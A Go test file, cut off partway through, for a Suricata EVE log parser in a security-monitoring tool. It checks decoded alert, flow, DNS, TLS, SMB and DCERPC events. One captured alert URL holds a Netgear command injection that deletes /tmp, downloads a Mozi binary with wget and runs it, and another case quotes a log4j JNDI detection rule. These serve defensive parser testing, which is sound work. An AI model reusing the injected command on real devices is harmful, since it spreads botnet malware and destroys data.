package suricata

import (
	"bufio"
	"bytes"
	"errors"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/mamori-soc/mamori/event"
	"github.com/mamori-soc/mamori/ingest/parse"
)

const testdata = "../../testdata"

func readLines(t testing.TB, path string) [][]byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	var lines [][]byte
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		lines = append(lines, bytes.Clone(sc.Bytes()))
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return lines
}

// docLine returns a line of the documentation examples (1-based, as listed
// in testdata/suricata-docs/ATTRIBUTION.md).
func docLine(t testing.TB, n int) string {
	t.Helper()
	return string(readLines(t, filepath.Join(testdata, "suricata-docs/eve-doc-examples.json"))[n-1])
}

func ip(s string) netip.Addr { return netip.MustParseAddr(s) }

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

func decode(line string) (event.Event, error) {
	var ev event.Event
	err := Format.New(parse.Source{Path: "/var/log/suricata/eve.json", Location: time.UTC}).Decode([]byte(line), &ev)
	return ev, err
}

// Real lines from testdata/suricata-slips/eve-slice.json; each case asserts
// every field the parser sets.
func TestDecodeReal(t *testing.T) {
	tests := map[string]struct {
		line string
		want event.Event
	}{
		"alert, poor reputation": {
			line: `{"timestamp":"2021-06-06T15:59:46.457984+0200","flow_id":1374195536821504,"pcap_cnt":313,"event_type":"alert","src_ip":"78.36.196.213","src_port":51698,"dest_ip":"192.168.1.129","dest_port":445,"proto":"TCP","alert":{"action":"allowed","gid":1,"signature_id":2403388,"rev":66418,"signature":"ET CINS Active Threat Intelligence Poor Reputation IP group 89","category":"Misc Attack","severity":2,"metadata":{"affected_product":["Any"],"attack_target":["Any"],"created_at":["2013_10_08"],"deployment":["Perimeter"],"signature_severity":["Major"],"tag":["CINS"],"updated_at":["2021_06_07"]}},"flow":{"pkts_toserver":1,"pkts_toclient":0,"bytes_toserver":60,"bytes_toclient":0,"start":"2021-06-06T15:59:46.457984+0200"},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T13:59:46.457984Z"), Format: "suricata.alert", Kind: event.KindIDS,
				Observer: "stratosphere.org", SrcIP: ip("78.36.196.213"), SrcPort: 51698,
				DstIP: ip("192.168.1.129"), DstPort: 445, Transport: "tcp", Action: event.ActionAllow,
				Signature:   "ET CINS Active Threat Intelligence Poor Reputation IP group 89",
				SignatureID: 2403388, Severity: 2, Label: "Misc Attack",
			},
		},
		"alert with HTTP context and no Host header": {
			line: `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":108713070213237,"event_type":"alert","src_ip":"120.85.91.67","src_port":2181,"dest_ip":"192.168.1.129","dest_port":80,"proto":"TCP","tx_id":0,"alert":{"action":"allowed","gid":1,"signature_id":2024916,"rev":2,"signature":"ET EXPLOIT Netgear DGN Remote Command Execution","category":"Attempted Information Leak","severity":2,"metadata":{"attack_target":["IoT"],"created_at":["2017_10_25"],"deployment":["Perimeter"],"former_category":["EXPLOIT"],"signature_severity":["Major"],"updated_at":["2020_08_13"]}},"http":{"url":"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1","http_method":"GET","protocol":"HTTP/1.0","length":0},"app_proto":"http","flow":{"pkts_toserver":22,"pkts_toclient":12,"bytes_toserver":3270,"bytes_toclient":888,"start":"2021-06-06T23:19:42.243829+0200"},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T13:57:37.272281Z"), Format: "suricata.alert", Kind: event.KindIDS,
				Observer: "stratosphere.org", SrcIP: ip("120.85.91.67"), SrcPort: 2181,
				DstIP: ip("192.168.1.129"), DstPort: 80, Transport: "tcp", Service: "http",
				URL:    "http://192.168.1.129/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.168.1.1:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
				Method: "GET", Action: event.ActionAllow,
				Signature: "ET EXPLOIT Netgear DGN Remote Command Execution", SignatureID: 2024916,
				Severity: 2, Label: "Attempted Information Leak",
			},
		},
		"flow, app_proto failed": {
			line: `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":445348883402532,"event_type":"flow","src_ip":"192.168.1.132","src_port":1900,"dest_ip":"192.168.1.129","dest_port":44232,"proto":"UDP","app_proto":"failed","flow":{"pkts_toserver":12,"pkts_toclient":0,"bytes_toserver":4056,"bytes_toclient":0,"start":"2021-06-06T16:38:55.855844+0200","end":"2021-06-06T16:38:56.963027+0200","age":1,"state":"new","reason":"timeout","alerted":false},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T14:38:55.855844Z"), Format: "suricata.flow", Kind: event.KindConnection,
				Observer: "stratosphere.org", SrcIP: ip("192.168.1.132"), SrcPort: 1900,
				DstIP: ip("192.168.1.129"), DstPort: 44232, Transport: "udp",
				BytesOut: 4056, Duration: 1107183 * time.Microsecond, Label: "new",
			},
		},
		"flow from a Cobalt Strike address": {
			line: `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":1337991927893520,"event_type":"flow","src_ip":"107.174.144.204","src_port":57095,"dest_ip":"192.168.1.129","dest_port":23,"proto":"TCP","flow":{"pkts_toserver":2,"pkts_toclient":2,"bytes_toserver":120,"bytes_toclient":120,"start":"2021-06-07T04:33:55.003600+0200","end":"2021-06-07T04:33:55.003851+0200","age":0,"state":"closed","reason":"shutdown","alerted":false},"tcp":{"tcp_flags":"16","tcp_flags_ts":"02","tcp_flags_tc":"14","syn":true,"rst":true,"ack":true,"state":"closed"},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-07T02:33:55.0036Z"), Format: "suricata.flow", Kind: event.KindConnection,
				Observer: "stratosphere.org", SrcIP: ip("107.174.144.204"), SrcPort: 57095,
				DstIP: ip("192.168.1.129"), DstPort: 23, Transport: "tcp",
				BytesOut: 120, BytesIn: 120, Duration: 251 * time.Microsecond, Label: "rejected", // the server's only flags: RST|ACK
			},
		},
		"flow the server answered, then reset": {
			line: `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":482525783043092,"event_type":"flow","src_ip":"162.142.125.53","src_port":51230,"dest_ip":"192.168.1.129","dest_port":554,"proto":"TCP","app_proto":"http","flow":{"pkts_toserver":10,"pkts_toclient":8,"bytes_toserver":762,"bytes_toclient":818,"start":"2021-06-07T09:25:24.306196+0200","end":"2021-06-07T09:25:25.523306+0200","age":1,"state":"closed","reason":"shutdown","alerted":false},"tcp":{"tcp_flags":"1f","tcp_flags_ts":"1e","tcp_flags_tc":"1b","syn":true,"fin":true,"rst":true,"psh":true,"ack":true,"state":"closed"},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-07T07:25:24.306196Z"), Format: "suricata.flow", Kind: event.KindConnection,
				Observer: "stratosphere.org", SrcIP: ip("162.142.125.53"), SrcPort: 51230,
				DstIP: ip("192.168.1.129"), DstPort: 554, Transport: "tcp", Service: "http",
				BytesOut: 762, BytesIn: 818, Duration: 1217110 * time.Microsecond, Label: "closed",
			},
		},
		"dns query": {
			line: `{"timestamp":"2021-06-06T16:26:27.431769+0200","flow_id":1567838537225881,"pcap_cnt":3881,"event_type":"dns","src_ip":"192.168.1.129","src_port":35790,"dest_ip":"192.168.1.1","dest_port":53,"proto":"UDP","dns":{"type":"query","id":2,"rrname":"www.google.com","rrtype":"A","tx_id":0},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T14:26:27.431769Z"), Format: "suricata.dns", Kind: event.KindDNS,
				Observer: "stratosphere.org", SrcIP: ip("192.168.1.129"), SrcPort: 35790,
				DstIP: ip("192.168.1.1"), DstPort: 53, Transport: "udp", Query: "www.google.com", QType: "A",
			},
		},
		"dns answer, version 2 detailed and grouped": {
			line: `{"timestamp":"2021-06-06T16:15:30.868948+0200","flow_id":1419339999887459,"pcap_cnt":2360,"event_type":"dns","src_ip":"192.168.1.129","src_port":39422,"dest_ip":"192.168.1.1","dest_port":53,"proto":"UDP","dns":{"version":2,"type":"answer","id":2,"flags":"8180","qr":true,"rd":true,"ra":true,"rrname":"www.myedimax.com","rrtype":"A","rcode":"NOERROR","answers":[{"rrname":"www.myedimax.com","rrtype":"CNAME","ttl":580,"rdata":"ddns.myedimax.com"},{"rrname":"ddns.myedimax.com","rrtype":"CNAME","ttl":280,"rdata":"ns.myedimax.com"},{"rrname":"ns.myedimax.com","rrtype":"A","ttl":580,"rdata":"122.248.252.67"}],"grouped":{"A":["122.248.252.67"],"CNAME":["ddns.myedimax.com","ns.myedimax.com"]}},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T14:15:30.868948Z"), Format: "suricata.dns", Kind: event.KindDNS,
				Observer: "stratosphere.org", SrcIP: ip("192.168.1.129"), SrcPort: 39422,
				DstIP: ip("192.168.1.1"), DstPort: 53, Transport: "udp",
				Query: "www.myedimax.com", QType: "A", RCode: "NOERROR",
				Answers: []string{"ddns.myedimax.com", "ns.myedimax.com", "122.248.252.67"},
			},
		},
		"http": {
			line: `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":1300129227356448,"event_type":"http","src_ip":"182.237.17.202","src_port":59502,"dest_ip":"192.168.1.129","dest_port":80,"proto":"TCP","tx_id":0,"http":{"hostname":"147.32.82.197","http_port":80,"url":"/","http_user_agent":"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36","http_method":"GET","protocol":"HTTP/1.1","length":0},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T13:57:37.272281Z"), Format: "suricata.http", Kind: event.KindHTTP,
				Observer: "stratosphere.org", SrcIP: ip("182.237.17.202"), SrcPort: 59502,
				DstIP: ip("192.168.1.129"), DstPort: 80, Transport: "tcp",
				Domain: "147.32.82.197", URL: "http://147.32.82.197/", Method: "GET",
				UserAgent: "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
			},
		},
		"tls": {
			line: `{"timestamp":"2021-06-06T16:54:00.074627+0200","flow_id":262898731971351,"pcap_cnt":7901,"event_type":"tls","src_ip":"192.168.1.129","src_port":60316,"dest_ip":"122.248.252.67","dest_port":55443,"proto":"TCP","tls":{"subject":"OU=Domain Control Validated, CN=www.myedimax.com","issuerdn":"C=BE, O=GlobalSign nv-sa, CN=AlphaSSL CA - SHA256 - G2","serial":"17:8E:1E:D7:BD:75:EF:CD:3D:8F:FF:D3","fingerprint":"2d:d1:9f:80:99:86:fc:ac:5f:2a:2a:fd:a3:f3:7e:96:7c:dd:24:37","sni":"www.myedimax.com","version":"TLS 1.1","notbefore":"2020-03-19T09:44:08","notafter":"2022-03-20T09:44:08","ja3":{"hash":"b7202231ff2db28363c109cedc6d1642","string":"770,51-57-69-136-22-53-132-47-65-10-5-4,0,,"},"ja3s":{"hash":"ad90cab724fafab2660fbf61673c91a9","string":"770,51,0"}},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T14:54:00.074627Z"), Format: "suricata.tls", Kind: event.KindTLS,
				Observer: "stratosphere.org", SrcIP: ip("192.168.1.129"), SrcPort: 60316,
				DstIP: ip("122.248.252.67"), DstPort: 55443, Transport: "tcp",
				Domain: "www.myedimax.com", Label: "TLS 1.1",
			},
		},
		"fileinfo": {
			line: `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":328594778239040,"event_type":"fileinfo","src_ip":"112.249.236.129","src_port":46090,"dest_ip":"192.168.1.129","dest_port":80,"proto":"TCP","http":{"hostname":"147.32.82.197","http_port":80,"url":"/HNAP1/","http_method":"POST","protocol":"HTTP/1.0","length":0},"app_proto":"http","fileinfo":{"filename":"/HNAP1/","sid":[],"gaps":false,"state":"TRUNCATED","stored":false,"size":535,"tx_id":0},"host":"stratosphere.org"}`,
			want: event.Event{
				Time: at("2021-06-06T13:57:37.272281Z"), Format: "suricata.fileinfo", Kind: event.KindFile,
				Observer: "stratosphere.org", SrcIP: ip("112.249.236.129"), SrcPort: 46090,
				DstIP: ip("192.168.1.129"), DstPort: 80, Transport: "tcp", Service: "http",
				Domain: "147.32.82.197", URL: "http://147.32.82.197/HNAP1/", Method: "POST",
				FileName: "/HNAP1/", FileSize: 535,
			},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			got, err := decode(tc.line)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %+v\nwant %+v", got, tc.want)
			}
		})
	}
}

// The documentation examples in testdata/suricata-docs, by line.
func TestDecodeDocExamples(t *testing.T) {
	docFlow := func(ev event.Event) event.Event {
		ev.SrcIP, ev.SrcPort, ev.DstIP = ip("192.168.2.14"), 50096, ip("209.53.113.5")
		if ev.Transport == "" {
			ev.Transport = "tcp"
		}
		if ev.Time.IsZero() {
			ev.Time = at("2017-04-07T21:24:37.251547Z")
		}
		return ev
	}
	tests := map[string]struct {
		line int
		want event.Event
	}{
		"alert": {1, docFlow(event.Event{
			Format: "suricata.alert", Kind: event.KindIDS, DstPort: 80, Service: "http", Action: event.ActionAllow,
			Signature:   "ET HUNTING GENERIC SUSPICIOUS POST to Dotted Quad with Fake Browser 1",
			SignatureID: 2018358, Severity: 2, Label: "Potentially Bad Traffic",
		})},
		"anomaly before 1970 local time": {3, event.Event{
			Time: at("1970-01-01T00:04:21Z"), Format: "suricata.anomaly", Kind: event.KindNotice,
			SrcIP: ip("208.21.2.184"), DstIP: ip("10.1.1.99"), Transport: "udp",
			Label: "decoder.udp.pkt_too_small", Message: "decode",
		}},
		"anomaly in the app layer": {4, event.Event{
			Time: at("2016-01-11T13:10:54.61211Z"), Format: "suricata.anomaly", Kind: event.KindNotice,
			SrcIP: ip("192.168.122.149"), SrcPort: 49324, DstIP: ip("69.195.71.174"), DstPort: 443,
			Transport: "tcp", Service: "tls",
			Label: "APPLAYER_DETECT_PROTOCOL_ONLY_ONE_DIRECTION", Message: "applayer (proto_detect)",
		}},
		"http with a Host port": {7, docFlow(event.Event{
			Format: "suricata.http", Kind: event.KindHTTP, DstPort: 80,
			Domain: "www.test.org", URL: "http://www.test.org:1337/this/is/test.tar.gz",
			UserAgent: "<User-Agent>", ContentType: "application/x-gzip",
		})},
		"http extended, status as a string": {8, docFlow(event.Event{
			Format: "suricata.http", Kind: event.KindHTTP, DstPort: 80,
			Domain: "direkte.vg.no", URL: ".....", Method: "GET", Status: 200, BytesIn: 310,
			UserAgent: "<User-Agent>", ContentType: "application/json",
		})},
		"dns answer, grouped": {11, docFlow(event.Event{
			Format: "suricata.dns", Kind: event.KindDNS, DstPort: 53, Transport: "udp", RCode: "NOERROR",
			Answers: []string{"192.0.78.24", "192.0.78.25", "suricata.io"},
		})},
		"dns answer, version 1": {12, docFlow(event.Event{
			Format: "suricata.dns", Kind: event.KindDNS, DstPort: 53, Transport: "udp",
			Query: "twitter.com", QType: "A", RCode: "NOERROR", Answers: []string{"199.16.156.6"},
		})},
		"tls extended": {13, docFlow(event.Event{
			Format: "suricata.tls", Kind: event.KindTLS, DstPort: 443, Domain: "calendar.google.com", Label: "TLS 1.2",
		})},
		"smb pipe open": {14, docFlow(event.Event{
			Format: "suricata.smb", Kind: event.KindSMB, DstPort: 445, Method: "SMB2_COMMAND_CREATE", FileName: "atsvc",
		})},
		"smb tree connect": {15, docFlow(event.Event{
			Format: "suricata.smb", Kind: event.KindSMB, DstPort: 445, Method: "SMB2_COMMAND_TREE_CONNECT", Label: `\\admin-pc\c$`,
		})},
		"smb DCERPC request, interface unknown": {16, docFlow(event.Event{
			Format: "suricata.smb", Kind: event.KindRPC, DstPort: 445, Method: "opnum 0",
		})},
		"smb DCERPC bind": {17, docFlow(event.Event{
			Format: "suricata.smb", Kind: event.KindRPC, DstPort: 445, Service: "samr", Method: "BIND",
		})},
		"smb session setup with NTLMSSP": {18, docFlow(event.Event{
			Format: "suricata.smb", Kind: event.KindSMB, DstPort: 445,
			Method: "SMB1_COMMAND_SESSION_SETUP_ANDX", User: `VNET3\administrator`,
		})},
		"flow with bypass": {19, docFlow(event.Event{
			Time: at("2019-05-28T21:32:29.025256Z"), Format: "suricata.flow", Kind: event.KindConnection, DstPort: 80,
			BytesOut: 4884, BytesIn: 7392, Duration: 179046025 * time.Microsecond, Label: "bypassed",
		})},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			got, err := decode(docLine(t, tc.line))
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %+v\nwant %+v", got, tc.want)
			}
		})
	}
}

// TestDecodeDCERPC covers remote service creation. Suricata's guide has no
// svcctl example, so these lines take the guide's DCERPC REQUEST example
// (testdata line 16) and set opnum and interfaces where each Suricata
// version's logger writes them (rust/src/smb/log.rs, rust/src/dcerpc/log.rs).
func TestDecodeDCERPC(t *testing.T) {
	const head = `{"timestamp":"2017-04-07T22:24:37.251547+0100","flow_id":586497171462735,"src_ip":"192.168.2.14","src_port":50096,"dest_ip":"209.53.113.5","dest_port":445,"proto":"TCP",`
	tests := map[string]struct {
		line            string
		service, method string
	}{
		"smb, interfaces array (Suricata 6-7)": {
			line:    head + `"event_type":"smb","smb":{"id":4,"dialect":"unknown","command":"SMB2_COMMAND_IOCTL","status":"STATUS_SUCCESS","status_code":"0x0","session_id":4398046511201,"tree_id":0,"dcerpc":{"request":"REQUEST","response":"RESPONSE","opnum":12,"req":{"frag_cnt":1,"stub_data_size":136},"interfaces":[{"uuid":"367abb81-9844-35f1-ad32-98f038001003","version":"2.0"}],"res":{"frag_cnt":1,"stub_data_size":8},"call_id":2}}}`,
			service: "svcctl", method: "CreateServiceW",
		},
		"smb, one interface object (older)": {
			line:    head + `"event_type":"smb","smb":{"id":4,"command":"SMB2_COMMAND_IOCTL","dcerpc":{"request":"REQUEST","response":"RESPONSE","opnum":19,"req":{"frag_cnt":1,"stub_data_size":136},"interface":{"uuid":"367ABB81-9844-35F1-AD32-98F038001003","version":"2.0"},"call_id":3}}}`,
			service: "svcctl", method: "StartServiceW",
		},
		"dcerpc over TCP, opnum under req (Suricata 8)": {
			line:    head + `"event_type":"dcerpc","dcerpc":{"request":"REQUEST","req":{"opnum":24,"frag_cnt":1,"stub_data_size":300},"interfaces":[{"uuid":"367abb81-9844-35f1-ad32-98f038001003","version":"2.0","ack_result":0,"service":"svcctl","procedure":"RCreateServiceA"}],"response":"RESPONSE","call_id":2,"rpc_version":"5.0"}}`,
			service: "svcctl", method: "CreateServiceA",
		},
		"interface Suricata names and mamori does not": {
			line:    head + `"event_type":"dcerpc","dcerpc":{"request":"REQUEST","req":{"opnum":2},"interfaces":[{"uuid":"50abc2a4-574d-40b3-9d66-ee4fd5fba076","version":"5.0","service":"dnsserver","procedure":"R_DnssrvQuery"}],"response":"RESPONSE"}}`,
			service: "dnsserver", method: "R_DnssrvQuery",
		},
		"scheduled task": {
			line:    head + `"event_type":"smb","smb":{"command":"SMB2_COMMAND_IOCTL","dcerpc":{"request":"REQUEST","opnum":1,"interfaces":[{"uuid":"86d35949-83c9-4044-b424-db363231fd0c","version":"1.0"}]}}}`,
			service: "ITaskSchedulerService", method: "SchRpcRegisterTask",
		},
		"unknown interface and operation": {
			line:    head + `"event_type":"smb","smb":{"command":"SMB2_COMMAND_IOCTL","dcerpc":{"request":"REQUEST","opnum":7,"interfaces":[{"uuid":"00000000-1111-2222-3333-444444444444","version":"1.0"}]}}}`,
			service: "00000000-1111-2222-3333-444444444444", method: "opnum 7",
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			ev, err := decode(tc.line)
			if err != nil {
				t.Fatal(err)
			}
			if ev.Kind != event.KindRPC || ev.Service != tc.service || ev.Method != tc.method {
				t.Errorf("kind %v service %q method %q, want rpc %q %q", ev.Kind, ev.Service, ev.Method, tc.service, tc.method)
			}
			if ev.SrcIP != ip("192.168.2.14") || ev.DstPort != 445 {
				t.Errorf("addresses %v -> %v:%d", ev.SrcIP, ev.DstIP, ev.DstPort)
			}
		})
	}
}

// TestAlertRefs covers CVE ids and reference URLs. The sample has no CVE
// alert; these lines follow ET Open's metadata layout ("cve":["CVE_..."])
// and eve's "rule" option, on the common section of the guide's alert.
func TestAlertRefs(t *testing.T) {
	const head = `{"timestamp":"2017-04-07T22:24:37.251547+0100","event_type":"alert","src_ip":"192.168.2.14","src_port":50096,"dest_ip":"209.53.113.5","dest_port":8080,"proto":"TCP",`
	tests := map[string]struct {
		alert string
		want  []string
	}{
		"metadata and signature agree": {
			alert: `"alert":{"action":"allowed","signature_id":2036818,"signature":"ET EXPLOIT Bonitasoft Authorization Bypass M1 (CVE-2022-25237)","severity":1,"metadata":{"affected_product":null,"cve":["CVE_2022_25237"]}}`,
			want:  []string{"CVE-2022-25237"},
		},
		"signature only": {
			alert: `"alert":{"signature":"ET EXPLOIT Possible ETERNALBLUE Probe MS17-010 (CVE-2017-0144, cve_2017_0145)"}`,
			want:  []string{"CVE-2017-0144", "CVE-2017-0145"},
		},
		"rule references": {
			alert: `"alert":{"signature":"ET EXPLOIT Apache log4j RCE Attempt","metadata":{"cve":["CVE_2021_44228"]},"rule":"alert http any any -> $HOME_NET any (msg:\"ET EXPLOIT Apache log4j RCE Attempt\"; content:\"${jndi:\"; reference:cve,2021-44228; reference:url,www.lunasec.io/docs/blog/log4j-zero-day/; reference: url,https://example.org/a; sid:2034647; rev:1;)"}`,
			want:  []string{"CVE-2021-44228", "http://www.lunasec.io/docs/blog/log4j-zero-day/", "https://example.org/a"},
		},
		"no references": {
			alert: `"alert":{"signature":"ET SCAN NMAP -sS window 1024 (CVEs none)","metadata":{"cve":["N/A"]}}`,
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			ev, err := decode(head + tc.alert + "}")
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(ev.Refs, tc.want) {
				t.Errorf("Refs = %q, want %q", ev.Refs, tc.want)
			}
		})
	}
}

// TestDecodeVariants changes one thing in a real line (the sample's first
// alert or flow) to cover layouts the samples lack.
func TestDecodeVariants(t *testing.T) {
	const flow = `{"timestamp":"2021-06-06T15:57:37.272281+0200","flow_id":445348883402532,"event_type":"flow","src_ip":"192.168.1.132","src_port":1900,"dest_ip":"192.168.1.129","dest_port":44232,"proto":"UDP","app_proto":"failed","flow":{"pkts_toserver":12,"pkts_toclient":0,"bytes_toserver":4056,"bytes_toclient":0,"start":"2021-06-06T16:38:55.855844+0200","end":"2021-06-06T16:38:56.963027+0200","age":1,"state":"new","reason":"timeout","alerted":false},"host":"stratosphere.org"}`
	tests := map[string]struct {
		line  string
		check func(ev event.Event) bool
	}{
		"blocked alert": {
			line:  strings.Replace(docLineFor(t, 1), `"action":"allowed"`, `"action":"blocked"`, 1),
			check: func(ev event.Event) bool { return ev.Action == event.ActionDeny },
		},
		"timestamp without a zone is read in the source's zone": {
			line: strings.Replace(strings.Replace(flow, "T15:57:37.272281+0200", "T15:57:37.272281", 1), `"start":`, `"x_start":`, 1),
			check: func(ev event.Event) bool {
				return ev.Time.Equal(time.Date(2021, 6, 6, 15, 57, 37, 272281000, time.UTC))
			},
		},
		"zone with a colon, no flow start": {
			line:  strings.Replace(strings.Replace(flow, "+0200", "+02:00", 1), `"start":`, `"x_start":`, 1),
			check: func(ev event.Event) bool { return ev.Time.Equal(at("2021-06-06T13:57:37.272281Z")) && ev.Duration == 0 },
		},
		"dns version 3 queries": {
			line:  `{"timestamp":"2024-03-01T10:00:00.000000+0000","event_type":"dns","src_ip":"10.0.0.1","src_port":5353,"dest_ip":"10.0.0.53","dest_port":53,"proto":"UDP","dns":{"version":3,"type":"request","id":1,"queries":[{"rrname":"example.com","rrtype":"AAAA"}]}}`,
			check: func(ev event.Event) bool { return ev.Query == "example.com" && ev.QType == "AAAA" },
		},
		"invalid UTF-8 is replaced": {
			line:  strings.Replace(flow, `"host":"stratosphere.org"`, "\"host\":\"strato\xffsphere\"", 1),
			check: func(ev event.Event) bool { return ev.Observer == "strato\uFFFDsphere" },
		},
		"escapes in strings": {
			line:  strings.Replace(flow, `"host":"stratosphere.org"`, `"host":"sensor\u00e9\\1"`, 1),
			check: func(ev event.Event) bool { return ev.Observer == `sensoré\1` },
		},
		"null members": {
			line:  strings.Replace(flow, `"app_proto":"failed"`, `"app_proto":null,"src_port":null`, 1),
			check: func(ev event.Event) bool { return ev.Service == "" && ev.SrcPort == 0 },
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			ev, err := decode(tc.line)
			if err != nil {
				t.Fatal(err)
			}
			if !tc.check(ev) {
				t.Errorf("unexpected event %+v", ev)
			}
		})
	}
}

// docLineFor is docLine for use while building a table.
func docLineFor(t *testing.T, n int) string { return docLine(t, n) }

func TestReject(t *testing.T) {
	const flow = `{"timestamp":"2021-06-06T15:57:37.272281+0200","event_type":"flow","src_ip":"192.168.1.132","src_port":1900,"dest_ip":"192.168.1.129","dest_port":44232,"proto":"UDP","flow":{"bytes_toserver":4056,"bytes_toclient":0,"start":"2021-06-06T16:38:55.855844+0200","state":"new"},"host":"stratosphere.org"}`
	sub := func(old, repl string) string {
		if !strings.Contains(flow, old) {
			t.Fatalf("%q not in the line", old)
		}
		return strings.Replace(flow, old, repl, 1)
	}
	tests := map[string]struct {
		line   string
		reason string
	}{
		"bad JSON":                   {line: sub(`"proto":"UDP"`, `"proto":UDP`), reason: "bad JSON"},
		"truncated line":             {line: flow[:len(flow)/2], reason: "truncated line"},
		"not an object":              {line: `["flow"]`, reason: "bad JSON"},
		"binary garbage":             {line: "\x00\x9f\xff{\"a", reason: "bad JSON"},
		"missing event_type":         {line: sub(`"event_type":"flow",`, ""), reason: "missing event_type"},
		"event_type not a string":    {line: sub(`"event_type":"flow"`, `"event_type":7`), reason: "missing event_type"},
		"missing timestamp":          {line: sub(`"timestamp":"2021-06-06T15:57:37.272281+0200",`, ""), reason: "missing timestamp"},
		"timestamp a number":         {line: sub(`"timestamp":"2021-06-06T15:57:37.272281+0200"`, `"timestamp":1622987857`), reason: "wrong type"},
		"bad timestamp":              {line: sub(`2021-06-06T15:57:37`, `2021-06-06 15h57`), reason: "bad timestamp"},
		"impossible date":            {line: sub(`2021-06-06T15:57:37`, `2021-02-30T15:57:37`), reason: "bad timestamp"},
		"bad zone":                   {line: sub(`+0200",`, `+2500",`), reason: "bad timestamp"},
		"bad flow start":             {line: sub(`"start":"2021-06-06T16:38:55.855844+0200"`, `"start":"soon"`), reason: "bad timestamp"},
		"bad address":                {line: sub(`"192.168.1.132"`, `"192.168.1.300"`), reason: "bad address"},
		"address not a string":       {line: sub(`"192.168.1.132"`, `3232235908`), reason: "wrong type"},
		"port out of range":          {line: sub(`"src_port":1900`, `"src_port":70000`), reason: "bad port"},
		"port as a string":           {line: sub(`"src_port":1900`, `"src_port":"1900"`), reason: "wrong type"},
		"port with a fraction":       {line: sub(`"src_port":1900`, `"src_port":19.5`), reason: "bad number"},
		"negative byte count":        {line: sub(`"bytes_toserver":4056`, `"bytes_toserver":-1`), reason: "bad number"},
		"flow not an object":         {line: sub(`"flow":{`, `"flow":"x","y":{`), reason: "wrong type"},
		"alert signature not string": {line: `{"timestamp":"2021-06-06T15:59:46.457984+0200","event_type":"alert","alert":{"signature":["x"]}}`, reason: "wrong type"},
		"http status out of range":   {line: `{"timestamp":"2021-06-06T15:59:46.457984+0200","event_type":"http","http":{"status":"2000"}}`, reason: "bad number"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			_, err := decode(tc.line)
			var rej *parse.Reject
			if !errors.As(err, &rej) {
				t.Fatalf("err = %v, want a *parse.Reject", err)
			}
			if rej.Reason != tc.reason {
				t.Errorf("reason %q (%v), want %q", rej.Reason, err, tc.reason)
			}
		})
	}
}

func TestSkip(t *testing.T) {
	tests := map[string]string{
		"stats":        `{"timestamp":"2021-06-06T15:57:37.272281+0200","event_type":"stats","stats":{"uptime":12}}`,
		"mqtt (guide)": docLine(t, 20),
		"empty line":   "",
		"blank line":   "  \t",
	}
	for name, line := range tests {
		t.Run(name, func(t *testing.T) {
			if _, err := decode(line); !errors.Is(err, parse.ErrSkip) {
				t.Errorf("err = %v, want ErrSkip", err)
			}
		})
	}
}

func TestFormat(t *testing.T) {
	if _, err := decode(Format.Example); err != nil {
		t.Errorf("Example does not decode: %v", err)
	}
	if got := Format.Sniff("eve.json", [][]byte{[]byte(Format.Example)}); got < 90 {
		t.Errorf("Sniff(Example) = %d", got)
	}
}

func TestSniff(t *testing.T) {
	first := func(rel string) [][]byte {
		ls := readLines(t, filepath.Join(testdata, rel))
		return ls[:min(len(ls), parse.SniffLines)]
	}
	tests := map[string]struct {
		path  string
		lines [][]byte
		want  int
	}{
		"eve.json":                {"eve.json", first("suricata-slips/eve-slice.json"), 95},
		"guide examples":          {"eve.json", first("suricata-docs/eve-doc-examples.json"), 95},
		"one truncated last line": {"eve.json", append(first("suricata-slips/eve-slice.json")[:9], []byte(`{"timestamp":"2021-06-06T15:57:`)), 86},
		"Zeek JSON":               {"conn.log", first("zeek-slips/test9-mixed-zeek-dir/conn.log"), 0},
		"Zeek TSV":                {"conn.log", first("zeek-rita/proxy/conn.log"), 0},
